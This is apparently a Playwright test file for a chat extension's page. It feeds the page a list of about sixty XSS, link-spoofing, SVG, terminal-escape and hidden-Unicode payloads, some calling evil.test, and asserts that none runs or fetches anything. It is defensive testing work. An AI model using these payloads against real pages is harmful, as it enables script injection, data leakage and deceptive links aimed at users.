import assert from 'node:assert/strict';
import { dirname } from 'node:path';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../../scripts/browser.ts';
import { preparePrograms } from '../../scripts/systemPackages.ts';
import type { ChatHead, MessageView, ToPage } from '../../src/chat/protocol.ts';
import { outputOf, type ToolOutput } from '../../src/chat/toolOutput.ts';
import { openChatPage } from '../fakes/chatPage.ts';

const root = dirname(dirname(import.meta.dirname));
const point = (code: number): string => String.fromCodePoint(code);
const escape = point(0x1b);

/** What somebody may write into an answer, a file's name or a test's output so that a page runs it, fetches it, or shows something else. */
const hostile: readonly string[] = [
  // Script.
  '<script>window.pwned=1</script>',
  '<SCRIPT SRC=http://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>window.pwned=1</scr</script>ipt>',
  '<script\x20type="text/javascript">javascript:window.pwned=1;</script>',
  '</code></pre><script>window.pwned=1</script>',
  '```html\n</code></pre><script>window.pwned=1</script>\n```',
  '`</code><script>window.pwned=1</script>`',
  '    </code></pre><script>window.pwned=1</script>',
  // Handlers of events.
  '<img src=x onerror=window.pwned=1>',
  '<body onload=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>x</details>',
  '<div onpointerover="window.pwned=1">over</div>',
  '<input autofocus onfocus=window.pwned=1>',
  '<a href="https://ok.test" onclick="window.pwned=1">x</a>',
  '<video><source onerror="window.pwned=1"></video>',
  '"><img src=x onerror=window.pwned=1>',
  "' autofocus onfocus='window.pwned=1",
  // Links.
  '[x](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1)',
  '[x](java&#10;script:window.pwned=1)',
  '[x](&#106;avascript:window.pwned=1)',
  '[x](data:text/html,<script>window.pwned=1</script>)',
  '[x](vbscript:msgbox)',
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://file/etc/passwd)',
  '[x](file:///etc/passwd)',
  '[x][y]\n\n[y]: javascript:window.pwned=1',
  '<javascript:window.pwned=1>',
  '[https://good.test](https://evil.test/login)',
  '[src/money.ts:5](https://evil.test)',
  '[x](#place-999)',
  '[x](#place-1"onclick="window.pwned=1)',
  '[x](//evil.test/x)',
  '[x](https://evil.test/" onmouseover="window.pwned=1)',
  '[x](https://evil.test "t\\" onmouseover=\\"window.pwned=1")',
  // Pictures and what else is fetched.
  '![x](http://evil.test/p.png)',
  '![x](javascript:window.pwned=1)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x"onerror="window.pwned=1](x)',
  '[![x](http://evil.test/p.png)](http://evil.test)',
  '<img src="http://evil.test/p.png">',
  '<link rel=stylesheet href=http://evil.test/x.css>',
  '<style>@import "http://evil.test/x.css"; body { display: none }</style>',
  '<div style="background:url(http://evil.test/x)">x</div>',
  '<iframe src="http://evil.test"></iframe><object data=http://evil.test></object><embed src=http://evil.test>',
  '<base href="http://evil.test/"><meta http-equiv=refresh content="0;url=http://evil.test">',
  '<form action=http://evil.test><button>Send</button></form>',
  // SVG and MathML.
  '<svg onload=window.pwned=1></svg>',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>',
  '<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  // Tricks of Markdown.
  '```js" onmouseover="window.pwned=1\nx\n```',
  '```"><script>window.pwned=1</script>\nx\n```',
  '~~~<img/src=x/onerror=window.pwned=1>\nx\n~~~',
  `${'> '.repeat(300)}x`,
  `${'['.repeat(3000)}x${']'.repeat(3000)}(https://evil.test)`,
  // Terminals.
  `${escape}[31mred${escape}[0m ${escape}]8;;http://evil.test${escape}\\link${escape}]8;;${escape}\\ ${escape}[2K${escape}[1Agone`,
  `${escape}]0;title${point(7)}${point(8)}${point(8)}over\rwritten ${point(0)}`,
  // Letters that hide or turn round what stands beside them.
  `access${point(0x202e)}sj.exe${point(0x202c)} ${point(0x2066)}x${point(0x2069)} ${point(0x200b)}${point(0xfeff)}${point(0xad)}`,
  `tag${point(0xe0041)}${point(0xe0042)} ${point(0x061c)}${point(0x200f)} ${point(0x2028)}${point(0x3164)}`,
];

const inSvg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${attributes}>${inside}</svg>`;

/** Plots that would do the same, and would not even get as far as the page. */
const hostilePlots: readonly string[] = [
  inSvg('<script>parent.pwned=1;window.pwned=1;fetch("http://evil.test/x")</script>'),
  inSvg('<script href="http://evil.test/x.js"/>'),
  inSvg('<rect width="9" height="9" onload="top.pwned=1"/>', 'onload="top.pwned=1"'),
  inSvg('<image href="http://evil.test/p.png" width="9" height="9" onerror="top.pwned=1"/>'),
  inSvg('<use href="http://evil.test/x.svg#a"/>'),
  inSvg('<a href="javascript:top.pwned=1"><rect width="40" height="40"/></a>'),
  inSvg(
    '<style>@import "http://evil.test/x.css"; rect { fill: url(http://evil.test/x) }</style><rect width="9" height="9"/>',
  ),
  inSvg(
    '<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.test"/><img src="x" onerror="top.pwned=1"/></body></foreignObject>',
  ),
  inSvg('<animate attributeName="x" onbegin="top.pwned=1" dur="1s"/><set attributeName="onclick" to="top.pwned=1"/>'),
  '<html xmlns="http://www.w3.org/1999/xhtml"><script>top.pwned=1</script></html>',
  `<?xml-stylesheet href="http://evil.test/x.css"?>${inSvg('')}`,
  'no picture at all',
];

suite('the page of the chat', function () {
  this.timeout(120_000);
  let browser: Browser;

  suiteSetup(async () => {
    await preparePrograms(['browser'], console.log);
    browser = await launchBrowser();
  });
  suiteTeardown(() => browser.close());

  test(`of ${hostile.length} hostile texts none runs, fetches or hides anything, wherever it stands`, async () => {
    assert.ok(hostile.length >= 60, 'there are sixty');
    const { page, tell, fetched, alarms, posted } = await openChatPage(browser, root);
    await tell({ kind: 'head', head });
    for (const text of hostile) {
      await tell(...everywhere(text));
      const found = await page.evaluate(lookedAt);
      assert.deepEqual(found, { elements: [], attributes: [], hidden: [], disguised: [], pwned: false }, text);
      // A whole text and one that comes letter by letter are the same.
      assert.equal(await page.evaluate(inPieces), await page.evaluate(inWhole), text);
    }
    await page.evaluate(hoverAndClick);
    assert.equal(await page.evaluate('window.pwned'), undefined);
    assert.deepEqual(fetched, []);
    assert.deepEqual(alarms, []);
    const links = (await posted()).filter(({ kind }) => kind === 'openLink') as { kind: string; address: string }[];
    for (const { address } of links) assert.match(address, /^https?:\/\//);
    await page.close();
  });

  test(`of ${hostilePlots.length} hostile plots none runs or fetches anything, and nothing but a picture is one`, async () => {
    const { page, tell, fetched, alarms } = await openChatPage(browser, root);
    await tell({ kind: 'head', head });
    for (const [at, plot] of hostilePlots.entries()) {
      assert.equal(
        typeof outputOf('plot.svg', new TextEncoder().encode(plot)),
        hasOnlyDeadLinks(plot) ? 'object' : 'string',
      );
      const mimes = ['image/svg+xml', 'image/png', 'text/html', 'image/svg+xml;x"onerror="pwned=1'] as const;
      const outputs = mimes.map((mime) => ({ kind: 'picture', name: plot, mime, base64: btoa(plot) }) as ToolOutput);
      const tool = { kind: 'tool', id: 't', name: 'run_code', arguments: '{}', state: 'done', outputs } as const;
      const message = answered(`plot${at}`, '');
      await tell(opened([{ ...message, answer: { ...message.answer, parts: [tool] } }], 1, 0));
      await page.locator('.output').nth(3).waitFor({ state: 'attached' });
      await page.evaluate('Promise.all([...document.images].map((one) => one.decode().catch(() => undefined)))');
      assert.equal(await page.evaluate('document.images.length'), 2);
    }
    await page.evaluate(hoverAndClick);
    assert.equal(await page.evaluate('window.pwned'), undefined);
    assert.deepEqual(fetched, []);
    assert.deepEqual(alarms, []);
    await page.close();
  });

  test('shows the picture of a chip from the bytes that it was given, and nothing that is none', async () => {
    const { tell, page, fetched, alarms } = await openChatPage(browser, root);
    const chip = (id: string, mime: string, base64: string) => {
      const target = { kind: 'picture', mime, base64, size: 43, width: 1, height: 1 } as const;
      return { id, label: `${id}.gif`, target, content: { text: '', tokens: 255, isCut: false } };
    };
    const dot = 'R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==';
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>').toString('base64');
    const forged = 'AAAA" onerror="window.pwned=1';
    const chips = [
      chip('good', 'image/gif', dot),
      chip('svg', 'image/svg+xml', svg),
      chip('forged', 'image/gif', forged),
    ];
    await tell({ kind: 'head', head }, { kind: 'chips', chips });
    await page.waitForFunction('document.querySelector("img.thumbnail")?.naturalWidth === 1');
    assert.equal(await page.evaluate('document.querySelectorAll("img").length'), 1);
    assert.equal(await page.evaluate('window.pwned'), undefined);
    assert.deepEqual([fetched, alarms], [[], []]);
    await page.close();
  });

  test('asks for the messages that come into sight, and for an answer that it has missed a part of', async () => {
    const { tell, posted, page } = await openChatPage(browser, root);
    const messages = Array.from({ length: 30 }, (_, at) => asked(`m${970 + at}`, `Question ${at}`));
    await tell({ kind: 'head', head }, opened(messages, 1000, 970));
    await page.locator('article').last().focus();
    await page.keyboard.press('Home');
    await page.waitForFunction('window.posted.some(({ kind, first }) => kind === "loadMessages" && first === 0)');
    await tell(
      { kind: 'messages', conversation: 'c', first: 0, messages: [asked('m0', 'The very first')] },
      { kind: 'message', conversation: 'c', at: 1000, message: answered('a', '') },
      { kind: 'streamed', conversation: 'c', message: 'a', sequence: 2, changes: [{ kind: 'status', text: 'x' }] },
    );
    await page.waitForSelector('article:has-text("The very first")');
    const wanted = (await posted()).at(-1);
    assert.deepEqual(wanted, { kind: 'loadMessages', conversation: 'c', first: 1000, count: 1 });
    await page.close();
  });
});

/** What an `<img>` does not follow is no reason to hide a plot. */
const hasOnlyDeadLinks = (plot: string): boolean => !outputRefuses.test(plot) && plot.startsWith('<svg');
const outputRefuses = /<script|<foreignObject|<animate/;

const head: ChatHead = {
  ...{ folder: 'project', isTrusted: true, isAnswering: false, commands: [], model: 'scripted' },
};

/** In an answer, whole and in pieces, in a question, and in every name that the page shows. */
function everywhere(text: string): ToPage[] {
  const target = { kind: 'file', path: text } as const;
  const chip = { id: 'chip', label: text, target, content: { text, tokens: 1, isCut: false, why: text } };
  const tool = {
    kind: 'tool',
    id: 't',
    name: text,
    arguments: text,
    state: 'asking',
    summary: text,
    detail: text,
    outputs: [{ kind: 'table', name: text, header: [text], rows: [[text]], left: 1 }],
  } as const;
  const proposal = { kind: 'proposal', id: 'p', title: text, files: [text], hunks: 1 } as const;
  const whole = answered('whole', text);
  const named: MessageView = {
    ...answered('named', 'See [x](#place-1).'),
    model: text,
    answer: {
      parts: [{ kind: 'text', text: 'See [x](#place-1).' }, tool, { ...tool, id: 'd', state: 'done' }, proposal],
      places: [{ path: text, lines: { first: 1, last: 2 } }],
      dropped: [{ what: text, why: text }],
      unproven: [{ what: text, why: text }],
      ended: { reason: 'failed', error: { cause: text, next: text } },
    },
  };
  const question: MessageView = {
    ...{ id: 'q', at: 0, branches: ['q'], role: 'user', text },
    chips: [{ id: 'chip', kind: 'file', label: text, tokens: 1 }],
  };
  const making: MessageView = {
    ...answered('pieces', ''),
    answer: { parts: [], places: [], dropped: [], unproven: [] },
  };
  const pieces = [...text].map((delta, at): ToPage => ({
    ...{ kind: 'streamed', conversation: 'c', message: 'pieces', sequence: at + 1 },
    changes: [
      at === 0 ? { kind: 'part', at: 0, part: { kind: 'text', text: delta } } : { kind: 'grown', at: 0, delta },
    ],
  }));
  const end: ToPage = {
    ...{ kind: 'streamed', conversation: 'c', message: 'pieces', sequence: [...text].length + 1 },
    changes: [{ kind: 'facts', answer: { dropped: [], unproven: [], ended: { reason: 'complete' } } }],
  };
  return [
    { ...opened([question, named, whole, making], 4, 0, text) },
    { kind: 'chips', chips: [chip] },
    ...pieces,
    end,
    { kind: 'notice', text },
    { kind: 'prompt', message: 'whole', requests: [[{ role: 'user', text }]] },
  ];
}

function opened(messages: readonly MessageView[], total: number, first: number, title = 'title'): ToPage {
  return { kind: 'opened', conversation: { id: 'c', title, total, first, messages, draft: { text: '', chips: [] } } };
}

const asked = (id: string, text: string): MessageView => ({
  ...{ id, at: 0, branches: [id], role: 'user', text, chips: [] },
});

function answered(id: string, text: string): Extract<MessageView, { readonly role: 'assistant' }> {
  const parts = text === '' ? [] : [{ kind: 'text', text } as const];
  const answer = { parts, places: [], dropped: [], unproven: [], ended: { reason: 'complete' } as const };
  return { id, at: 0, branches: [id], role: 'assistant', answer, sequence: 0, hasPrompt: false };
}

/** Run in the page: what should not be in it. */
const lookedAt = `(() => {
  const tags = 'HEADER H1 H2 H3 H4 H5 H6 MAIN SECTION ARTICLE DIV P SPAN A CODE PRE UL OL LI STRONG EM S BR HR BLOCKQUOTE TABLE THEAD TBODY TR TH TD BUTTON TEXTAREA FORM DIALOG INPUT DETAILS SUMMARY DL DT DD SCRIPT FIGURE FIGCAPTION'.split(' ');
  const all = [...document.body.querySelectorAll('*')];
  const isOwnScript = (one) => one.tagName === 'SCRIPT' && one.getAttribute('src') === 'http://chat.test/chat.js';
  const attributes = all.filter((one) => !isOwnScript(one)).flatMap((one) => [...one.attributes].filter(({ name, value }) =>
    name.startsWith('on') || ['src', 'action', 'data', 'srcset', 'formaction', 'xlink:href'].includes(name) ||
    (name === 'href' && !/^(#place-\\d+|https?:\\/\\/.*)$/.test(value))).map(({ name, value }) => name + '=' + value));
  const links = [...document.querySelectorAll('.markdown a')];
  return {
    elements: all.filter((one) => !tags.includes(one.tagName) || (one.tagName === 'SCRIPT' && !isOwnScript(one)) || (one.tagName === 'FORM' && one.className !== 'composer')).map((one) => one.outerHTML.slice(0, 100)),
    attributes,
    hidden: [...document.body.textContent].filter((sign) => /[\\p{Cc}\\p{Cf}\\u2028\\u2029\\u3164]/u.test(sign) && sign !== '\\n' && sign !== '\\t'),
    disguised: links.filter((one) => one.getAttribute('href').startsWith('http') && one.textContent !== one.getAttribute('href') && !(one.nextElementSibling?.className === 'address' && one.nextElementSibling.textContent.includes(one.getAttribute('href')))).map((one) => one.outerHTML),
    pwned: 'pwned' in window,
  };
})()`;

const textOf = (id: string): string =>
  `document.querySelector('article[data-message="${id}"] .parts')?.textContent.replace(/\\s+/g, ' ').trim() ?? ''`;
const inPieces = textOf('pieces');
const inWhole = textOf('whole');

const hoverAndClick = `for (const one of document.querySelectorAll('.feed *, .chips *')) {
  for (const kind of ['pointerover', 'mouseover', 'focus', 'toggle', 'load', 'error']) one.dispatchEvent(new Event(kind));
  if (one.tagName === 'A') one.click();
}`;
